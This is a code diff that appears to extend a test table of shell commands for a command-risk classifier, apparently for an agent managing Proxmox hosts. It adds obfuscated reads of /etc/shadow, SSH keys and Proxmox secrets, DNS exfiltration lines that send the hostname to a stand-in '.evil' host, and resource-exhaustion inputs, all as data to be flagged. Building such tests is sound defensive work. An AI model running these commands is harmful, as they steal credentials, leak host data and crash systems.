@@ -13,6 +13,16 @@ enum HolesTable {
     "printf -v PATH x; ls", "printf -vPATH x; ls", "mapfile PATH; ls", "mapfile -t PATH; ls", "((++PATH)); ls",
     "echo $((PATH+=1))", "for ((IFS=1;i<2;i++)); do ls; done", "declare -i x='PATH=1'; ls", "wait -p PATH; ls",
     "[[ PATH=1 -eq 1 ]]; ls", "a[PATH=1]=2; ls",
+    "cat /etc/shado[[:alpha:]]", "cat /etc/shado[]w]", "cat /etc/shado[w\"]\"]", "cat /etc/pve/pri[[:lower:]]/*",
+    "cat /etc/@(shadow)", "cat /etc/!(hosts)", "cat /etc/s+(h)adow", "cat /etc/?(x)shadow",
+    "shopt -s nocaseglob; cat /etc/SHADO?", "cat /etc/pve/local/*", "cat /etc/pve/nodes/agent/*", "cat /etc/pve/*",
+    "cat /home/bob/.s*/*", "cat /var/spoo?/cron/crontabs/root", "cat /proc/1/envir*", "cat /etc/apt/auth*",
+    "cat /etc/letsencr*/live/x.org/*", "cat /rpool/data/subvol-105-disk-0/etc/shado?",
+    "cat /var/lib/lxc/105/rootfs/root/.s*/*", "cat /srv/x/server.ke?", "awk 'BEGIN{ARGV[1]=\"/etc/x\";ARGC=2}{print}'",
+    "dig $(hostname).evil", "ping -c1 $(hostname).evil", "host $(hostname).evil", "nslookup $(hostname).evil",
+    "pvesh get /nodes/pve/storage/local/file-restore/download", "pvesh get /cluster/acme/plugins",
+    "pvesh get /nodes/pve/scan/cifs", "pvesh get /nodes/pve/scan/nfs", "pvesh get /nodes/pve/query-url-metadata",
+    "docker compose config",
   ]
 
   /// RED at least.
@@ -21,6 +31,12 @@ enum HolesTable {
     "systemctl start debug-shell", "systemctl start cryptsetup@x", "systemctl start nbd@x",
     "systemctl restart wg-quick@wg0", "systemctl restart tailscaled", "systemctl restart keepalived",
     "systemctl restart iptables", "systemctl restart nftables", "systemctl restart netfilter-persistent",
+    "set -o posix", "shopt -s extglob", "setopt nullglob", "echo {1..1000000000}", "echo {9223372036854775807..-1}",
+    "echo {-9223372036854775807..9223372036854775807}", "echo {1..200}{1..200}",
+    "printf '%1000000000d' 1", "printf '%.99999f' 1", "printf '%*d' 1000000000 1",
+    "diff -rN /etc /tmp", "diff -r /root /tmp", "find /home/bob -type f -exec head {} +", "grep -r x /root",
+    "ps auxwwwe", "ps -o environ", "ps -eo pid,environ", "docker top x e", "docker top x -eo pid,environ",
+    "cat /etc/hosts | ssh pve2 cat", "ssh -J evil pve2 ls", "curl --proto-default file x",
     "systemctl restart autofs", "service tailscaled restart",
   ]
 
@@ -37,6 +53,11 @@ enum HolesTable {
     "smartctl -l error /dev/sda", "smartctl -x /dev/sda", "pgrep -fa qemu", "printf '%-20s %5d\\n' a 1",
     "zfs list -t snapshot -o name,used -s used", "zpool status -xv", "lsblk -dno NAME", "kubectl logs -f pod",
     "qm config 100 --current", "rbd ls -p pool", "ceph osd tree -f json-pretty", "findmnt -no SOURCE /",
+    "echo {1..2..-9223372036854775808}", "systemctl status pveproxy.service", "cat /etc/*release", "cat /proc/*/status",
+    "cat /var/log/*.log", "cat /etc/pve/qemu-server/*.conf", "echo {1..9}",
+    "cat /etc/pve/nodes/*/lxc/*.conf", "cat /sys/class/net/*/address", "ps -C apache",
+    "diff -r /usr/share/a /usr/share/b",
+    "set -euo pipefail", "printf '%05.2f' 3", "zgrep x /var/log/syslog.[12].gz",
     "nvme smart-log /dev/nvme0 -o json", "pvesm list local --vmid 100", "sar -u 1 3", "ss -tnp state established",
   ]
 }
